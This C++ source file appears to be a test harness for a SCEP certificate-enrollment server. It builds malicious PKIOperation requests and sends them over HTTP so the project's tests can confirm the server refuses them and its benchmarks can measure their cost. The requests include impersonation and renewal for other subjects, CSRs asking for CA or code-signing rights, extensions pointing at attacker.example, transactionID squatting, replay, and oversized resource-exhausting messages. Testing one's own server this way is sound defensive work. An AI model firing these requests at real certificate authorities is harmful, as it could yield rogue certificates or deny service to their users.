// SCEP attacker: malicious PKIOperation requests against a running SCEP server, built
// with the project's own SCEP client code (scep/client.h) and sent over real HTTP. Used
// by tests/integration/test_attacks.py (is each attack refused?) and by
// bench/run_attack_bench.sh (what does each attack cost the server?).
//
//   scep_attack --url http://127.0.0.1:PORT/cgi-bin/pkiclient.exe --ca CA.pem --kind KIND
//               [--count N] [--signer-cert F --signer-key F] [--subject DN] [--out DIR]
//               [--challenge PW] [--digest SHA-256] [--recipients N] [--extensions N] [--tid TID]
//               [--keys FILE [--key-index K]] [--tag TEXT] [--threads T] [--together] [--quiet]
//
// Kinds (each request a POST of application/x-pki-message; RSA-2048 requester keys,
// SHA-256 unless --digest, AES-128-CBC, transactionID = MD5 over the key and the run's tag):
//   honest               a normal PKCSReq, self-signed signer, subject --subject or
//                        CN=attack-honest-TAG-I (challengePassword --challenge if given)
//   renew-other-subject  RenewalReq signed by --signer-cert/--signer-key (a certificate
//                        of the CA) for a new key and --subject (default CN=attack-victim)
//   ra-impersonation     PKCSReq signed by --signer-cert/--signer-key (a certificate of
//                        the CA that is not an RA's, e.g. "cn=ioscs radius") for
//                        --subject (default CN=attack-ra-victim-I)
//   csr-ca-true          the CSR asks for basicConstraints CA:TRUE
//   csr-keycertsign      keyUsage digitalSignature, keyCertSign, cRLSign
//   csr-ocspsigning      extendedKeyUsage OCSPSigning (and clientAuth)
//   csr-codesigning      extendedKeyUsage codeSigning, anyExtendedKeyUsage (and clientAuth)
//   csr-cdp              its own cRLDistributionPoints, authorityInfoAccess and
//                        subjectKeyIdentifier
//   many-recipients      an EnvelopedData with --recipients (default 10,000)
//                        KeyTransRecipientInfos: throw-away certificates, the CA last
//   many-recipients-ca   --recipients (default 150, under 64 KiB) recipients, all the CA
//   wrong-recipient      enveloped for a certificate other than the CA's
//   many-extensions      a CSR with --extensions (default 100,000) extensions
//   big-body             1 MiB of random bytes as the body
//   squat-tid            a PKCSReq for another key under the transactionID --tid, or, without
//                        --tid, under that of a "victim" PKCSReq sent first
//   replay               one honest PKCSReq sent 1 + N times, byte for byte
//   garbage-after-decrypt  an envelope that opens to bytes that are not a PKCS#10
//
// Every message is built before the first one is sent; one after the other on one
// keep-alive connection, or with --together all at once, each on a connection of its own
// (a replay that reaches two nodes behind a balancer at the same moment). Prints one line
// per request:
//   request I: kind=K role=R http=STATUS pkiStatus=S failInfo=F failInfoText="..." tid=T
//              digest=D serial=HEX cert=PATH
// (digest: of the CertRep's signature; echo=mismatch when its transactionID or
// recipientNonce is not the request's)
// (role: attack, victim, original, replay), then
//   RESULT kind=K requests=N no_answer=.. http_200=.. http_other=.. success=.. pending=..
//          failure=.. bad_reply=.. seconds=..
// With --out, each requester key goes to DIR/KIND-I.key and an issued certificate to
// DIR/KIND-I.pem (I: the request's number).
// Exit status 0 when every request got an HTTP answer, 2 when some did not, 1 on a setup
// error.

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <functional>
#include <map>
#include <memory>
#include <optional>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include <openssl/cms.h>
#include <openssl/err.h>
#include <openssl/evp.h>
#include <openssl/pem.h>
#include <openssl/x509v3.h>
#include <CLI/CLI.hpp>

#include "http_client.h"
#include "pki/certificate.h"
#include "pki/csr.h"
#include "pki/digest.h"
#include "pki/encoding.h"
#include "pki/key.h"
#include "pki/name.h"
#include "scep/client.h"
#include "scep/cms_util.h"
#include "scep/message.h"

namespace {

using Clock = std::chrono::steady_clock;
using scepter::Result;
using scepter::bench::HttpConn;
using scepter::bench::HttpReply;
using scepter::pki::Certificate;
using scepter::pki::Key;
using scepter::pki::Ptr;
namespace pki = scepter::pki;
namespace scep = scepter::scep;

[[noreturn]] void die(const std::string& what) {
  std::fprintf(stderr, "scep_attack: %s\n", what.c_str());
  std::exit(1);
}

template <class T>
T check(Result<T> r, const std::string& what) {
  if (!r.has_value()) die(what + ": " + r.error().to_string());
  return std::move(*r);
}

const std::vector<std::string>& kinds() {
  static const std::vector<std::string> k = {
      "honest",          "renew-other-subject", "ra-impersonation", "csr-ca-true",
      "csr-keycertsign", "csr-ocspsigning",     "csr-codesigning",  "csr-cdp",
      "many-recipients", "many-recipients-ca",  "wrong-recipient",  "many-extensions",
      "big-body",        "squat-tid",           "replay",           "garbage-after-decrypt"};
  return k;
}

struct Args {
  std::string url;
  std::string ca_file;
  std::string kind;
  int count = 1;
  std::string signer_cert_file;
  std::string signer_key_file;
  std::string subject;
  std::string out_dir;
  std::string challenge;
  std::string digest_text = "SHA-256";
  scep::DigestAlg digest = scep::DigestAlg::kSha256;
  int recipients = 0;  // 0: the kind's default
  int extensions = 100'000;
  std::string tid;
  std::string keys_file;
  int key_index = 0;
  std::string tag;
  int threads = static_cast<int>(std::max(1u, std::thread::hardware_concurrency()));
  bool quiet = false;
  bool together = false;
  // From the URL.
  std::string host;
  int port = 0;
  std::string path;
};

void parse_url(Args& a) {
  static constexpr std::string_view kScheme = "http://";
  std::string_view u = a.url;
  if (u.substr(0, kScheme.size()) != kScheme) die("--url must start with http://");
  u.remove_prefix(kScheme.size());
  const size_t slash = u.find('/');
  const std::string_view authority = u.substr(0, slash);
  a.path =
      slash == std::string_view::npos ? "/cgi-bin/pkiclient.exe" : std::string(u.substr(slash));
  const size_t colon = authority.rfind(':');
  a.host = std::string(authority.substr(0, colon));
  a.port = colon == std::string_view::npos
               ? 80
               : std::atoi(std::string(authority.substr(colon + 1)).c_str());
  if (a.host.empty() || a.port <= 0 || a.port > 65535) die("bad --url " + a.url);
  if (const size_t q = a.path.find('?'); q != std::string::npos) a.path.resize(q);
}

Args parse_args(int argc, char** argv) {
  Args a;
  CLI::App app{"scep_attack: malicious SCEP requests against a running server"};
  app.add_option("--url", a.url, "SCEP URL, http://IPv4:PORT/path/pkiclient.exe")->required();
  app.add_option("--ca", a.ca_file, "CA certificate (PEM)")->required();
  app.add_option("--kind", a.kind, "What to send")->required()->check(CLI::IsMember(kinds()));
  app.add_option("--count", a.count, "Attack requests to send");
  app.add_option("--signer-cert", a.signer_cert_file, "Signing certificate (PEM)");
  app.add_option("--signer-key", a.signer_key_file, "Its key (PEM)");
  app.add_option("--subject", a.subject, "Subject to ask for (parse_dn syntax)");
  app.add_option("--out", a.out_dir, "Directory for issued certificates and their keys");
  app.add_option("--challenge", a.challenge, "challengePassword of the CSRs");
  app.add_option("--digest", a.digest_text, "Digest of the requests: MD5, SHA-1 ... SHA-512");
  app.add_option("--recipients", a.recipients, "RecipientInfos of many-recipients[-ca]");
  app.add_option("--extensions", a.extensions, "Extensions of many-extensions");
  app.add_option("--tid", a.tid, "transactionID to squat (squat-tid)");
  app.add_option("--keys", a.keys_file, "PEM file of RSA-2048 keys, read and extended");
  app.add_option("--key-index", a.key_index, "First key of --keys to use");
  app.add_option("--tag", a.tag, "Makes transactionIDs and subjects unique (default random)");
  app.add_option("--threads", a.threads, "Threads for building the messages");
  app.add_flag("--quiet", a.quiet, "Only the RESULT line");
  app.add_flag("--together", a.together, "Send every message at once, a connection each");
  try {
    app.parse(argc, argv);
  } catch (const CLI::ParseError& e) {
    std::exit(app.exit(e));
  }
  if (a.count <= 0 || a.threads <= 0 || a.extensions < 0 || a.recipients < 0 || a.key_index < 0) {
    die("--count and --threads must be positive, the others not negative");
  }
  if (a.recipients == 0) a.recipients = a.kind == "many-recipients" ? 10'000 : 150;
  bool known = false;
  for (auto d : {scep::DigestAlg::kMd5, scep::DigestAlg::kSha1, scep::DigestAlg::kSha224,
                 scep::DigestAlg::kSha256, scep::DigestAlg::kSha384, scep::DigestAlg::kSha512}) {
    if (scep::digest_name(d) == a.digest_text) {
      a.digest = d;
      known = true;
    }
  }
  if (!known) die("unknown --digest " + a.digest_text);
  if (a.tag.empty()) a.tag = pki::hex_upper(check(pki::random_bytes(4), "random"));
  parse_url(a);
  return a;
}

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) die("cannot read " + path);
  std::ostringstream s;
  s << in.rdbuf();
  return s.str();
}

void write_file(const std::string& path, const std::string& data) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  if (!out || !out.write(data.data(), static_cast<std::streamsize>(data.size()))) {
    die("cannot write " + path);
  }
}

std::string key_pem(const Key& key) {
  Ptr<BIO> bio(BIO_new(BIO_s_mem()));
  if (!bio ||
      PEM_write_bio_PrivateKey(bio.get(), key.evp(), nullptr, nullptr, 0, nullptr, nullptr) != 1) {
    die("cannot encode a key");
  }
  char* data = nullptr;
  const long len = BIO_get_mem_data(bio.get(), &data);
  return std::string(data, static_cast<size_t>(len));
}

// Runs fn(i) for i in [0, n) on `threads` threads.
void parallel_for(int n, int threads, const std::function<void(int)>& fn) {
  std::atomic<int> next{0};
  std::vector<std::thread> pool;
  for (int t = 0; t < std::min(threads, n); ++t) {
    pool.emplace_back([&] {
      for (int i; (i = next++) < n;) fn(i);
    });
  }
  for (auto& t : pool) t.join();
}

// `n` RSA-2048 keys: read from --keys when it holds enough, the rest generated (and
// appended to it).
std::vector<Key> load_or_make_keys(const Args& a, int n) {
  std::vector<Key> keys;
  if (!a.keys_file.empty()) {
    Ptr<BIO> bio(BIO_new_file(a.keys_file.c_str(), "r"));
    while (bio && static_cast<int>(keys.size()) < n) {
      Ptr<EVP_PKEY> k(PEM_read_bio_PrivateKey(bio.get(), nullptr, nullptr, nullptr));
      if (!k) break;
      keys.push_back(check(Key::from_evp(std::move(k)), "key file"));
    }
    ERR_clear_error();
  }
  const int have = static_cast<int>(keys.size());
  if (have >= n) return keys;
  std::vector<std::optional<Key>> fresh(static_cast<size_t>(n - have));
  parallel_for(n - have, a.threads, [&](int i) {
    fresh[static_cast<size_t>(i)] = check(Key::generate_rsa(2048), "RSA key generation");
  });
  std::string appended;
  for (auto& k : fresh) {
    appended += key_pem(*k);
    keys.push_back(std::move(*k));
  }
  if (!a.keys_file.empty()) {
    std::ofstream out(a.keys_file, std::ios::binary | std::ios::app);
    if (!out || !out.write(appended.data(), static_cast<std::streamsize>(appended.size()))) {
      die("cannot write " + a.keys_file);
    }
  }
  return keys;
}

// ---- Building blocks ----

struct Message {
  std::string role = "attack";
  std::string body;             // the POST body
  std::optional<Key> key;       // the key the CSR asks to certify
  std::optional<Key> open_key;  // the signer's key, for which a SUCCESS is enveloped
  std::string tid;
  std::string nonce;
};

struct Context {
  const Args& a;
  Certificate ca;
  std::optional<Certificate> signer_cert;
  std::optional<Key> signer_key;
  // many-recipients: throw-away recipient certificates (the CA is added last).
  std::vector<Ptr<X509>> decoys;
  // squat-tid: the transactionID taken over.
  std::string squat_tid;
};

Ptr<X509_NAME> dn(const std::string& text) { return check(pki::parse_dn(text), "subject " + text); }

std::string fresh_nonce() { return check(pki::random_bytes(scep::kNonceSize), "nonce"); }

std::string tid_for(const Context& c, const Key& key) {
  return pki::md5_hex(key.public_key_der() + c.a.tag);
}

// An extension from OpenSSL's configuration syntax ("critical,CA:TRUE").
Ptr<X509_EXTENSION> ext(int nid, const char* value) {
  X509V3_CTX ctx;
  X509V3_set_ctx_nodb(&ctx);
  X509V3_set_ctx(&ctx, nullptr, nullptr, nullptr, nullptr, 0);
  Ptr<X509_EXTENSION> e(X509V3_EXT_conf_nid(nullptr, &ctx, nid, value));
  if (!e) die(std::string("extension ") + OBJ_nid2sn(nid) + " = " + value);
  return e;
}

std::string csr_der(const X509_NAME* subject, const Key& key, const std::string& challenge,
                    const std::vector<Ptr<X509_EXTENSION>>& extensions = {}) {
  std::vector<const X509_EXTENSION*> exts;
  for (const auto& e : extensions) exts.push_back(e.get());
  return check(pki::make_csr({.subject = subject,
                              .key = key,
                              .challenge_password = challenge,
                              .extensions = std::move(exts)}),
               "make_csr")
      .der();
}

// A PKCS#10 with `n` private extensions (1.3.6.1.4.1.55555.I.1 = NULL), built without
// make_csr(), which refuses more than pki::kMaxRequestedExtensions.
std::string oversized_csr_der(const X509_NAME* subject, const Key& key, int n) {
  Ptr<STACK_OF(X509_EXTENSION)> exts(sk_X509_EXTENSION_new_null());
  if (!exts) die("allocating extensions");
  static constexpr unsigned char kNull[] = {0x05, 0x00};
  Ptr<ASN1_STRING> value(ASN1_OCTET_STRING_new());
  if (!value || ASN1_OCTET_STRING_set(value.get(), kNull, sizeof kNull) != 1) die("octet string");
  for (int i = 0; i < n; ++i) {
    const std::string oid = "1.3.6.1.4.1.55555." + std::to_string(i + 1) + ".1";
    Ptr<ASN1_OBJECT> obj(OBJ_txt2obj(oid.c_str(), 1));
    Ptr<X509_EXTENSION> e(obj ? X509_EXTENSION_create_by_OBJ(nullptr, obj.get(), 0, value.get())
                              : nullptr);
    if (!e || sk_X509_EXTENSION_push(exts.get(), e.get()) == 0) die("building extensions");
    e.release();  // the stack owns it now
  }
  Ptr<X509_REQ> req(X509_REQ_new());
  if (!req || X509_REQ_set_version(req.get(), X509_REQ_VERSION_1) != 1 ||
      X509_REQ_set_subject_name(req.get(), subject) != 1 ||
      X509_REQ_set_pubkey(req.get(), key.evp()) != 1 ||
      X509_REQ_add_extensions(req.get(), exts.get()) != 1 ||
      X509_REQ_sign(req.get(), key.evp(), EVP_sha256()) <= 0) {
    die("building the oversized CSR");
  }
  unsigned char* der = nullptr;
  const int len = i2d_X509_REQ(req.get(), &der);
  if (len <= 0) die("encoding the oversized CSR");
  std::string out(reinterpret_cast<const char*>(der), static_cast<size_t>(len));
  OPENSSL_free(der);
  return out;
}

// A PKIMessage through the project's encoder.
Message encode(const Context& c, scep::MessageType type, const std::string& payload,
               X509* signer_cert, const Key& signer_key, X509* recipient, const Key& key,
               std::string tid) {
  Message m;
  m.key = key;
  m.open_key = signer_key;
  m.tid = std::move(tid);
  m.nonce = fresh_nonce();
  scep::PkiRequestParams p;
  p.type = type;
  p.payload = payload;
  p.signer_cert = signer_cert;
  p.signer_key = signer_key.evp();
  p.recipient_cert = recipient != nullptr ? recipient : c.ca.x509();
  p.digest = c.a.digest;
  p.cipher = scep::CipherAlg::kAes128Cbc;
  p.transaction_id = m.tid;
  p.sender_nonce = m.nonce;
  m.body = check(scep::encode_pki_request(p), "encode_pki_request");
  return m;
}

// A PKCSReq for `key`, signed by a throw-away certificate for `subject`.
Message self_signed_request(const Context& c, const std::string& payload, const X509_NAME* subject,
                            const Key& key, X509* recipient = nullptr, std::string tid = {}) {
  auto signer = check(scep::make_self_signed_signer(key.evp(), subject), "signer");
  if (tid.empty()) tid = tid_for(c, key);
  return encode(c, scep::MessageType::kPkcsReq, payload, signer.get(), key, recipient, key,
                std::move(tid));
}

// A PKCSReq whose EnvelopedData has every certificate of `recipients` as a
// KeyTransRecipientInfo. The envelope is built here (the encoder makes one recipient
// only) and signed with the SCEP attributes as encode_pki_request() signs.
Message many_recipient_request(const Context& c, const std::string& payload,
                               const X509_NAME* subject, const Key& key,
                               const std::vector<X509*>& recipients) {
  Ptr<STACK_OF(X509)> stack(sk_X509_new_null());
  if (!stack) die("sk_X509_new_null");
  for (X509* r : recipients) {
    Ptr<X509> ref = pki::up_ref(r);
    if (sk_X509_push(stack.get(), ref.get()) <= 0) die("sk_X509_push");
    ref.release();  // the stack owns it now
  }
  Ptr<BIO> in(BIO_new_mem_buf(payload.data(), static_cast<int>(payload.size())));
  Ptr<CMS_ContentInfo> env(in ? CMS_encrypt(stack.get(), in.get(), EVP_aes_128_cbc(), CMS_BINARY)
                              : nullptr);
  if (!env) die("CMS_encrypt with " + std::to_string(recipients.size()) + " recipients");
  const std::string env_der = check(scep::detail::cms_der(env.get()), "EnvelopedData");

  auto signer = check(scep::make_self_signed_signer(key.evp(), subject), "signer");
  Message m;
  m.key = key;
  m.open_key = key;
  m.tid = tid_for(c, key);
  m.nonce = fresh_nonce();
  const scep::AttributeTypes& types = scep::attribute_types();
  const std::vector<scep::detail::Attribute> attrs = {
      {types.message_type.obj, V_ASN1_PRINTABLESTRING,
       std::to_string(static_cast<int>(scep::MessageType::kPkcsReq))},
      {types.transaction_id.obj, V_ASN1_PRINTABLESTRING, m.tid},
      {types.sender_nonce.obj, V_ASN1_OCTET_STRING, m.nonce},
  };
  scep::detail::SignSpec spec;
  spec.cert = signer.get();
  spec.key = key.evp();
  spec.digest = c.a.digest;
  m.body = check(scep::detail::sign_data(env_der, spec, attrs), "SignedData");
  return m;
}

// Throw-away recipient certificates: copies of one self-signed certificate with
// serials 1..n (their signatures no longer match, which no recipient lookup checks).
std::vector<Ptr<X509>> make_decoys(int n) {
  const Key key = check(Key::generate_rsa(2048), "RSA key generation");
  auto name = dn("CN=scep_attack decoy recipient");
  auto tmpl = check(scep::make_self_signed_signer(key.evp(), name.get()), "decoy");
  std::vector<Ptr<X509>> out;
  for (int i = 0; i < n; ++i) {
    Ptr<X509> d(X509_dup(tmpl.get()));
    if (!d || ASN1_INTEGER_set_int64(X509_get_serialNumber(d.get()), i + 1) != 1) die("X509_dup");
    out.push_back(std::move(d));
  }
  return out;
}

const Certificate& need_signer(const Context& c) {
  if (!c.signer_cert || !c.signer_key) {
    die("--kind " + c.a.kind + " needs --signer-cert and --signer-key");
  }
  return *c.signer_cert;
}

// The attack message number `i` for `key_or_null` (null only for big-body).
Message build_one(const Context& c, int i, const Key* key_or_null) {
  const Args& a = c.a;
  if (a.kind == "big-body") {
    Message m;
    m.body = check(pki::random_bytes(1 << 20), "random");
    return m;
  }
  const Key& key = *key_or_null;
  const std::string& kind = a.kind;
  const std::string default_subject = "CN=attack-" + kind + "-" + a.tag + "-" + std::to_string(i);
  auto subject = dn(a.subject.empty() ? default_subject : a.subject);

  if (kind == "honest" || kind == "replay") {
    return self_signed_request(c, csr_der(subject.get(), key, a.challenge), subject.get(), key);
  }
  if (kind == "renew-other-subject" || kind == "ra-impersonation") {
    const Certificate& signer = need_signer(c);
    const bool renewal = kind == "renew-other-subject";
    auto asked = dn(!a.subject.empty() ? a.subject
                    : renewal          ? "CN=attack-victim"
                                       : "CN=attack-ra-victim-" + std::to_string(i));
    return encode(c, renewal ? scep::MessageType::kRenewalReq : scep::MessageType::kPkcsReq,
                  csr_der(asked.get(), key, a.challenge), signer.x509(), *c.signer_key, nullptr,
                  key, tid_for(c, key));
  }
  std::vector<Ptr<X509_EXTENSION>> exts;
  if (kind == "csr-ca-true") {
    exts.push_back(ext(NID_basic_constraints, "critical,CA:TRUE"));
  } else if (kind == "csr-keycertsign") {
    exts.push_back(ext(NID_key_usage, "critical,digitalSignature,keyCertSign,cRLSign"));
  } else if (kind == "csr-ocspsigning") {
    exts.push_back(ext(NID_ext_key_usage, "OCSPSigning,clientAuth"));
  } else if (kind == "csr-codesigning") {
    exts.push_back(ext(NID_ext_key_usage, "codeSigning,anyExtendedKeyUsage,clientAuth"));
  } else if (kind == "csr-cdp") {
    exts.push_back(ext(NID_crl_distribution_points, "URI:http://attacker.example/evil.crl"));
    exts.push_back(ext(NID_info_access,
                       "OCSP;URI:http://attacker.example/ocsp,caIssuers;URI:http://"
                       "attacker.example/ca.crt"));
    exts.push_back(ext(NID_subject_key_identifier, "DEADBEEFDEADBEEFDEADBEEFDEADBEEFDEADBEEF"));
  }
  if (kind.rfind("csr-", 0) == 0) {
    return self_signed_request(c, csr_der(subject.get(), key, a.challenge, exts), subject.get(),
                               key);
  }
  if (kind == "many-recipients" || kind == "many-recipients-ca") {
    std::vector<X509*> recipients;
    for (const auto& d : c.decoys) recipients.push_back(d.get());
    while (static_cast<int>(recipients.size()) < a.recipients) recipients.push_back(c.ca.x509());
    return many_recipient_request(c, csr_der(subject.get(), key, a.challenge), subject.get(), key,
                                  recipients);
  }
  if (kind == "wrong-recipient") {
    // Enveloped for the requester's own throw-away certificate instead of the CA.
    auto other = check(scep::make_self_signed_signer(key.evp(), subject.get()), "recipient");
    return self_signed_request(c, csr_der(subject.get(), key, a.challenge), subject.get(), key,
                               other.get());
  }
  if (kind == "many-extensions") {
    return self_signed_request(c, oversized_csr_der(subject.get(), key, a.extensions),
                               subject.get(), key);
  }
  if (kind == "squat-tid") {
    return self_signed_request(c, csr_der(subject.get(), key, a.challenge), subject.get(), key,
                               nullptr, c.squat_tid);
  }
  if (kind == "garbage-after-decrypt") {
    // Opens to bytes that are no PKCS#10: a DER SEQUENCE of random bytes.
    std::string junk = check(pki::random_bytes(300), "random");
    junk = std::string("\x30\x82\x01\x2c", 4) + junk;
    return self_signed_request(c, junk, subject.get(), key);
  }
  die("unknown kind " + kind);
}

// Every message to send, in order.
std::vector<Message> plan(Context& c) {
  const Args& a = c.a;
  if (a.kind == "many-recipients") c.decoys = make_decoys(std::max(0, a.recipients - 1));
  const bool needs_key = a.kind != "big-body";
  const bool squat_victim = a.kind == "squat-tid" && a.tid.empty();
  const int n = a.kind == "replay" ? 1 : a.count + (squat_victim ? 1 : 0);
  std::vector<Key> keys;
  if (needs_key) {
    keys = load_or_make_keys(a, a.key_index + n);
    keys.erase(keys.begin(), keys.begin() + a.key_index);
  }
  std::vector<Message> out;

  if (a.kind == "replay") {
    Message original = build_one(c, 0, &keys[0]);
    original.role = "original";
    out.push_back(original);
    for (int i = 0; i < a.count; ++i) {
      Message again = original;
      again.role = "replay";
      out.push_back(std::move(again));
    }
    return out;
  }
  c.squat_tid = a.tid;
  if (squat_victim) {
    Args victim_args = a;
    victim_args.kind = "honest";
    const Context vc{victim_args, c.ca, {}, {}, {}, {}};
    Message victim = build_one(vc, 0, &keys[0]);
    victim.role = "victim";
    c.squat_tid = victim.tid;
    out.push_back(std::move(victim));
  }
  const size_t first = out.size();
  out.resize(first + static_cast<size_t>(a.count));
  parallel_for(a.count, a.threads, [&](int i) {
    const size_t k = static_cast<size_t>(i) + (squat_victim ? 1 : 0);
    out[first + static_cast<size_t>(i)] = build_one(c, i, needs_key ? &keys[k] : nullptr);
  });
  return out;
}

// ---- Sending and reading the answers ----

std::string post_request(const Args& a, const std::string& body) {
  return "POST " + a.path + "?operation=PKIOperation HTTP/1.1\r\nHost: " + a.host + ":" +
         std::to_string(a.port) +
         "\r\nUser-Agent: scep_attack\r\nContent-Type: application/x-pki-message\r\n"
         "Content-Length: " +
         std::to_string(body.size()) + "\r\n\r\n" + body;
}

std::string quoted(std::string text) {
  std::string out = "\"";
  for (char ch : text) {
    if (ch == '"' || ch == '\\') {
      out += '\\';
      out += ch;
    } else if (ch == '\n' || ch == '\r') {
      out += ' ';
    } else {
      out += ch;
    }
  }
  return out + "\"";
}

struct Tally {
  int no_answer = 0, http_200 = 0, http_other = 0, success = 0, pending = 0, failure = 0,
      bad_reply = 0;
  std::map<std::string, int> outcomes;  // "FAILURE badRequest", "HTTP 413", ...
};

std::string serial_hex(X509* cert) {
  Ptr<BIGNUM> bn(ASN1_INTEGER_to_BN(X509_get0_serialNumber(cert), nullptr));
  char* hex = bn ? BN_bn2hex(bn.get()) : nullptr;
  std::string s = hex ? hex : "?";
  OPENSSL_free(hex);
  return s;
}

// One line about the answer to `m` (number `index`); writes an issued certificate.
std::string judge(const Context& c, int index, const Message& m,
                  const std::optional<HttpReply>& reply, Tally& t) {
  const Args& a = c.a;
  std::string line = "request " + std::to_string(index) + ": kind=" + a.kind + " role=" + m.role;
  if (!reply) {
    ++t.no_answer;
    ++t.outcomes["no answer"];
    return line + " http=none";
  }
  line += " http=" + std::to_string(reply->status);
  if (reply->status != 200) {
    ++t.http_other;
    ++t.outcomes["HTTP " + std::to_string(reply->status)];
    return line + " body=" + quoted(reply->body.substr(0, 80));
  }
  ++t.http_200;
  auto rep =
      scep::decode_cert_rep(reply->body, m.open_key ? m.open_key->evp() : nullptr, c.ca.x509());
  if (!rep.has_value()) {
    ++t.bad_reply;
    ++t.outcomes["bad reply"];
    return line + " bad_reply=" + quoted(rep.error().to_string());
  }
  line += " pkiStatus=" + std::string(scep::pki_status_name(rep->status));
  std::string outcome = std::string(scep::pki_status_name(rep->status));
  if (rep->status == scep::PkiStatus::kFailure) {
    ++t.failure;
    const std::string info(scep::fail_info_name(*rep->fail_info));
    line += " failInfo=" + info + " failInfoText=" + quoted(rep->fail_info_text);
    outcome += " " + info;
  } else if (rep->status == scep::PkiStatus::kPending) {
    ++t.pending;
  } else {
    ++t.success;
  }
  ++t.outcomes[outcome];
  if (rep->transaction_id != m.tid || rep->recipient_nonce != m.nonce) {
    line += " echo=mismatch";
  }
  line += " tid=" + m.tid + " digest=" + std::string(scep::digest_name(rep->digest));
  const std::string base = a.out_dir + "/" + a.kind + "-" + std::to_string(index);
  if (!a.out_dir.empty() && m.key) write_file(base + ".key", key_pem(*m.key));
  if (rep->status == scep::PkiStatus::kSuccess) {
    X509* issued = nullptr;
    for (auto& cert : rep->certificates) {
      if (m.key && EVP_PKEY_eq(X509_get0_pubkey(cert.get()), m.key->evp()) == 1)
        issued = cert.get();
    }
    if (issued == nullptr) return line + " cert=none-for-key";
    line += " serial=" + serial_hex(issued);
    if (!a.out_dir.empty()) {
      auto cert = check(Certificate::from_x509(pki::up_ref(issued)), "issued certificate");
      write_file(base + ".pem", cert.pem());
      line += " cert=" + base + ".pem";
    }
  }
  return line;
}

}  // namespace

int main(int argc, char** argv) {
  std::setvbuf(stdout, nullptr, _IOLBF, 0);
  const Args a = parse_args(argc, argv);
  Context c{a, check(Certificate::from_pem(read_file(a.ca_file)), "--ca"), {}, {}, {}, {}};
  if (!a.signer_cert_file.empty() || !a.signer_key_file.empty()) {
    if (a.signer_cert_file.empty() || a.signer_key_file.empty()) {
      die("--signer-cert and --signer-key go together");
    }
    c.signer_cert = check(Certificate::from_pem(read_file(a.signer_cert_file)), "--signer-cert");
    c.signer_key = check(Key::from_pem(read_file(a.signer_key_file)), "--signer-key");
  }
  if (!a.out_dir.empty()) {
    std::error_code ec;
    std::filesystem::create_directories(a.out_dir, ec);
    if (ec) die("cannot create " + a.out_dir + ": " + ec.message());
  }
  const std::vector<Message> messages = plan(c);

  Tally t;
  const auto start = Clock::now();
  std::vector<std::optional<HttpReply>> replies(messages.size());
  if (a.together) {
    std::vector<std::unique_ptr<HttpConn>> conns;
    std::vector<std::string> requests;
    for (const Message& m : messages) {
      conns.push_back(std::make_unique<HttpConn>(a.host, a.port));
      requests.push_back(post_request(a, m.body));
    }
    std::atomic<size_t> ready{0};
    std::vector<std::thread> threads;
    for (size_t i = 0; i < messages.size(); ++i) {
      threads.emplace_back([&, i] {
        ready.fetch_add(1);
        while (ready.load() < messages.size()) std::this_thread::yield();
        replies[i] = conns[i]->exchange(requests[i]);
      });
    }
    for (auto& th : threads) th.join();
  } else {
    HttpConn conn(a.host, a.port);
    for (size_t i = 0; i < messages.size(); ++i) {
      replies[i] = conn.exchange(post_request(a, messages[i].body));
    }
  }
  const double seconds = std::chrono::duration<double>(Clock::now() - start).count();
  for (size_t i = 0; i < messages.size(); ++i) {
    const std::string line = judge(c, static_cast<int>(i), messages[i], replies[i], t);
    if (!a.quiet) std::printf("%s\n", line.c_str());
  }
  std::string outcomes;
  for (const auto& [what, n] : t.outcomes) {
    outcomes += (outcomes.empty() ? "" : ", ") + std::to_string(n) + " x " + what;
  }
  std::printf(
      "RESULT kind=%s requests=%zu no_answer=%d http_200=%d http_other=%d success=%d "
      "pending=%d failure=%d bad_reply=%d seconds=%.3f outcomes=%s\n",
      a.kind.c_str(), messages.size(), t.no_answer, t.http_200, t.http_other, t.success, t.pending,
      t.failure, t.bad_reply, seconds, quoted(outcomes).c_str());
  return t.no_answer > 0 ? 2 : 0;
}
